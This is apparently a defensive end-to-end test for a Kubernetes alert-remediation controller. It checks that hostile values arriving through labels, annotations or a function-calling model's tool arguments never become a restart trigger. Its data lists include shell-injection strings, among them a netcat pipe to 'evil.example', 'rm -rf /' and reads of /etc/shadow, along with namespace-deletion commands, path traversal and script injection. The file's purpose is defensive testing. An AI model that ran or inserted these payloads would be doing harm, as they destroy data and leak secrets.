"""Parameter injection, end to end: hostile Alertmanager payloads through the real HTTP server never reach a trigger.

tests/unit/decision/test_hostile_parameters.py proves it at the decision
level, stage by stage. This is the same claim over the whole path a real
alert takes: HTTP → limits → parsing → the store → policy selection → the
chain → validation → the outbox → a capture sink. Every hostile value (not a
Kubernetes name, shell metacharacters, quotes, newlines, path traversal, over
length limits, a namespace outside the policy's scope) is sent in four ways,
each to a policy whose only proposer is the vector under test:

- as the pod label a rule copies into `name`;
- as the namespace label a rule copies into `namespace`;
- in the static annotation (`lambda_parameters`), including non-string values
  and hostile function names;
- as the arguments of the tool call a function-calling model returns.

Each hostile alert is either refused at the door (400: a limit or an invalid
payload) or accepted, decided and escalated — exactly one escalation per
alert, delivered intact — and the sink never sees a trigger for any of them.
One benign control alert per vector does trigger, so the pipes are proven open.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

from controller.schemas.decision import LAMBDA_TRIGGER
from runbooks import default_catalog
from tests.hardening.support import FakeLLM, StartServer, write_policy
from tests.pipeline.sink import CaptureSink

ESCALATED = "io.homelab.agent-sre.remediation.escalated"
TOKEN = "injection-token"
CATALOG = default_catalog()

HOSTILE_VALUES = [
    # shell metacharacters and command substitution
    "cart; rm -rf /",
    "cart && reboot",
    "cart || true",
    "cart | nc evil.example 1337",
    "$(reboot)",
    "`id`",
    "${IFS}cat${IFS}/etc/shadow",
    "cart > /dev/sda",
    "cart < /etc/passwd",
    "cart & sleep 100",
    "cart#comment",
    "!ls",
    "cart*",
    "cart?",
    "~root",
    "{a,b}",
    "cart\\",
    "cart\tx",
    # quotes
    "cart'",
    'cart"',
    "cart'; DROP TABLE pods;--",
    '"; kubectl delete ns shop; echo "',
    "'$(id)'",
    # newlines and control characters
    "cart\nkubectl delete ns shop",
    "cart\r\nX-Injected: 1",
    "cart\x00",
    "cart\x1b[31m",
    "\ncart",
    "cart\u2028x",
    # bare whitespace at either end, invisible and look-alike characters
    "cart-7f9c6d5b8-x2k4q\n",
    "cart\r",
    "\tcart",
    "cart\t",
    "cart\u200b",
    "\u200bcart",
    "ca\u2060rt",
    "\ufeffcart",
    "cart\u00a0",
    "c\u0430rt",
    "\uff43art",
    "shop\n",
    " shop",
    "shop\u200b",
    "\u0455hop",
    # path traversal
    "../../etc/passwd",
    "..",
    ".",
    "cart/../../kube-system",
    "/var/run/secrets/kubernetes.io",
    "%2e%2e%2fetc",
    "..%2f..%2f",
    "cart/x",
    "C:\\Windows",
    # not a Kubernetes name
    "Cart-7F9",
    "-n",
    "--all",
    "-",
    "cart-",
    "cart ",
    " cart",
    "",
    "cärt",
    "cart_7",
    "cart.",
    ".cart",
    "<script>alert(1)</script>",
    "cart@evil",
    "cart:80",
    "http://evil/",
    "{{ $labels.pod }}",
    "{{ .Values }}",
    # over length limits
    "a" * 64,
    "a" * 254,
    "ab." * 90 + "c",
    "a" * 5000,
]
# Namespaces: everything above, plus valid names outside the policy's scope (`shop`).
OUT_OF_SCOPE = ["kube-system", "default", "flux-system", "shop2", "web", "kube-public"]
# Under a "*" scope only the name rules guard the namespace: the same hostile spellings of kube-system.
WILDCARD_NAMESPACES = [
    "kube-system\n",
    "kube-system\r\n",
    "\nkube-system",
    " kube-system",
    "kube-system ",
    "kube-system\u200b",
    "kube-\u2060system",
    "kube-\u0455ystem",
    "\uff4bube-system",
]
# Static annotations and model arguments may carry any JSON, not only strings.
NON_STRING_PARAMETERS: list[dict[str, Any]] = [
    {"name": {"$ne": ""}, "namespace": "shop"},
    {"name": ["cart-1"], "namespace": "shop"},
    {"name": "cart-1", "namespace": "shop", "type": "node"},
    {"name": "cart-1", "namespace": "shop", "type": "pod; rm -rf /"},
    {"name": "cart-1", "namespace": "shop", "command": "sh -c id"},
    {"name": "cart-1", "namespace": "shop", "kubeconfig": "/etc/kubernetes/admin.conf"},
    {"name": "cart-1", "namespace": ["shop", "kube-system"]},
    {"name": "cart-1", "namespace": None},
]
HOSTILE_FUNCTIONS = [
    "pod-restart; rm -rf /",
    "../pod-restart",
    "POD-RESTART",
    "pod_restart",
    "pod-restart\nscale-deployment",
    "exec-shell",
    "p" * 300,
    "scale-deployment",
]  # last: not allowed
assert len(HOSTILE_VALUES) >= 50

POLICIES = """\
apiVersion: remediation.homelab.io/v1alpha1
kind: RemediationPolicy
metadata: {name: from-labels, namespace: trm-sre}
spec:
  match: {alertNames: [HostileLabels]}
  targetNamespaces: [shop]
  allowedFunctions: [pod-restart]
  chain:
    - rules:
        - function: pod-restart
          parameters: {name: "{{ $labels.pod }}", namespace: "{{ $labels.namespace }}", type: pod}
  actions: {cooldownSeconds: 0, maxTriggersPerWindow: 100000, windowSeconds: 600}
---
apiVersion: remediation.homelab.io/v1alpha1
kind: RemediationPolicy
metadata: {name: from-labels-wide, namespace: trm-sre}
spec:
  match: {alertNames: [HostileWide]}
  targetNamespaces: ["*"]
  allowedFunctions: [pod-restart]
  chain:
    - rules:
        - function: pod-restart
          parameters: {name: "{{ $labels.pod }}", namespace: "{{ $labels.namespace }}", type: pod}
  actions: {cooldownSeconds: 0, maxTriggersPerWindow: 100000, windowSeconds: 600}
---
apiVersion: remediation.homelab.io/v1alpha1
kind: RemediationPolicy
metadata: {name: from-annotation, namespace: trm-sre}
spec:
  match: {alertNames: [HostileAnnotation]}
  targetNamespaces: [shop]
  allowedFunctions: [pod-restart, pod-check-status]
  chain:
    - staticAnnotation: {}
  actions: {cooldownSeconds: 0, maxTriggersPerWindow: 100000, windowSeconds: 600}
---
apiVersion: remediation.homelab.io/v1alpha1
kind: RemediationPolicy
metadata: {name: from-model, namespace: trm-sre}
spec:
  match: {alertNames: [HostileModel]}
  targetNamespaces: [shop]
  allowedFunctions: [pod-restart, pod-check-status]
  chain:
    - functionCalling: {endpoint: "LLM_URL", api: ollama, model: hostile, timeoutMs: 20000}
  actions: {cooldownSeconds: 0, maxTriggersPerWindow: 100000, windowSeconds: 600}
"""


def _alert(
    case: str,
    alertname: str,
    *,
    pod: str = "cart-ok",
    namespace: str = "shop",
    annotations: dict[str, str] | None = None,
) -> dict[str, Any]:
    return {
        "status": "firing",
        "labels": {"alertname": alertname, "namespace": namespace, "pod": pod, "case": case},
        "annotations": annotations or {},
        "startsAt": "2026-05-01T10:00:00Z",
    }


def _cases() -> tuple[list[tuple[str, dict[str, Any]]], dict[str, tuple[Any, Any]], list[str]]:
    """(case id, alert) for every hostile case and control; the model's answer per case; the control ids."""
    cases: list[tuple[str, dict[str, Any]]] = []
    model_answers: dict[str, tuple[Any, Any]] = {}
    controls: list[str] = []

    def add(alert_for: Any, *, control: bool = False) -> None:
        case = f"hostile-case-{len(cases)}"
        cases.append((case, alert_for(case)))
        if control:
            controls.append(case)

    for value in HOSTILE_VALUES:
        add(lambda c, v=value: _alert(c, "HostileLabels", pod=v))
    for value in HOSTILE_VALUES + OUT_OF_SCOPE:
        add(lambda c, v=value: _alert(c, "HostileLabels", namespace=v))
    for value in WILDCARD_NAMESPACES:
        add(lambda c, v=value: _alert(c, "HostileWide", namespace=v))
    for value in HOSTILE_VALUES + OUT_OF_SCOPE:
        parameters = (
            {"name": "cart-ok", "namespace": value} if value in OUT_OF_SCOPE else {"name": value, "namespace": "shop"}
        )
        annotations = {"lambda_function": "pod-restart", "lambda_parameters": json.dumps(parameters)}
        add(lambda c, a=annotations: _alert(c, "HostileAnnotation", annotations=a))
    for parameters in NON_STRING_PARAMETERS:
        annotations = {"lambda_function": "pod-restart", "lambda_parameters": json.dumps(parameters)}
        add(lambda c, a=annotations: _alert(c, "HostileAnnotation", annotations=a))
    for function in HOSTILE_FUNCTIONS:
        annotations = {
            "lambda_function": function,
            "lambda_parameters": json.dumps({"name": "cart-ok", "namespace": "shop"}),
        }
        add(lambda c, a=annotations: _alert(c, "HostileAnnotation", annotations=a))
    for value in [*HOSTILE_VALUES, *NON_STRING_PARAMETERS, *HOSTILE_FUNCTIONS]:
        if isinstance(value, dict):
            answer: tuple[Any, Any] = ("pod-restart", value)
        elif value in HOSTILE_FUNCTIONS:
            answer = (value, {"name": "cart-ok", "namespace": "shop"})
        else:
            answer = ("pod-restart", {"name": value, "namespace": "shop", "type": "pod"})
        add(lambda c: _alert(c, "HostileModel"))
        model_answers[cases[-1][0]] = answer
    # Controls: the same vectors with benign values trigger.
    add(lambda c: _alert(c, "HostileLabels", pod="cart-control"), control=True)
    add(lambda c: _alert(c, "HostileWide", pod="cart-control"), control=True)
    benign = {
        "lambda_function": "pod-restart",
        "lambda_parameters": json.dumps({"name": "cart-annotated", "namespace": "shop"}),
    }
    add(lambda c: _alert(c, "HostileAnnotation", annotations=benign), control=True)
    add(lambda c: _alert(c, "HostileModel"), control=True)
    model_answers[cases[-1][0]] = ("pod-restart", {"name": "cart-modelled", "namespace": "shop"})
    return cases, model_answers, controls


CASES, MODEL_ANSWERS, CONTROLS = _cases()
CASES_BY_ID = dict(CASES)


def _payload(alert: dict[str, Any]) -> dict[str, Any]:
    return {
        "version": "4",
        "status": "firing",
        "receiver": "trm-sre",
        "groupKey": "{}:{}",
        "groupLabels": {},
        "commonLabels": {},
        "commonAnnotations": {},
        "alerts": [alert],
    }


async def test_no_hostile_value_reaches_a_trigger_whichever_stage_proposes_it(
    controller: StartServer, sink: CaptureSink, tmp_path: Path
) -> None:
    hostile = [case for case, _ in CASES if case not in CONTROLS]
    assert len(hostile) >= 50
    with FakeLLM(MODEL_ANSWERS) as llm:
        policies = write_policy(tmp_path / "policies", POLICIES.replace("LLM_URL", llm.url))
        server = await controller(token=TOKEN, sink=sink.url, policies=[policies])
        async with server.client() as http:
            answers = await asyncio.gather(*(http.post("/alertmanager", json=_payload(alert)) for _, alert in CASES))
        await server.idle(120)

    status_by_case = {case: response.status_code for (case, _), response in zip(CASES, answers, strict=True)}
    assert set(status_by_case.values()) <= {200, 400}, {c: s for c, s in status_by_case.items() if s not in (200, 400)}
    for (case, _), response in zip(CASES, answers, strict=True):
        if response.status_code == 400:
            assert case not in CONTROLS
            assert response.json()["detail"]  # refused at the door, saying why

    # No trigger carries a hostile value. A trigger for a hostile case is only possible where the hostile
    # value was dropped and the static annotation filled the parameter from the alert's own benign labels
    # (an empty or null name): its parameters are then exactly those labels.
    benign_values = {"cart-ok", "cart-1", "cart-control", "cart-annotated", "cart-modelled", "shop", "pod"}
    triggers = sink.accepted_of(LAMBDA_TRIGGER)
    by_case = {t.data()["alert"]["labels"]["case"]: t.data() for t in triggers}
    assert len(triggers) == len(by_case)  # once per case
    assert set(CONTROLS) <= set(by_case)
    for case, data in by_case.items():
        assert data["lambda_function"] == "pod-restart", case
        assert data["parameters"] == CATALOG.validate_call("pod-restart", data["parameters"]), case
        assert set(data["parameters"].values()) <= benign_values, (case, data["parameters"])
        assert data["parameters"]["namespace"] == "shop"
    filled = set(by_case) - set(CONTROLS)
    assert all(CASES_BY_ID[c]["labels"]["alertname"] == "HostileAnnotation" for c in filled), filled
    assert sorted(by_case[c]["parameters"]["name"] for c in CONTROLS) == sorted(
        ["cart-control", "cart-control", "cart-annotated", "cart-modelled"]
    )

    # Every other accepted hostile alert was decided and escalated once, and the escalation was delivered intact.
    accepted_hostile = {case for case in hostile if status_by_case[case] == 200}
    assert len(accepted_hostile - filled) >= 50
    escalations = [e.data() for e in sink.accepted_of(ESCALATED)]
    escalated_cases = [e["alert"]["labels"]["case"] for e in escalations]
    assert sorted(escalated_cases) == sorted(accepted_hostile - filled)
    for escalation in escalations:
        assert escalation["reasons"], escalation
        assert [t for t in escalation["trace"] if t.get("outcome") == "accepted"] == []
    assert all(r.accepted for r in sink.requests)  # no event was refused or broken by what it carried
    assert llm.requests >= len([c for c in MODEL_ANSWERS if status_by_case[c] == 200])
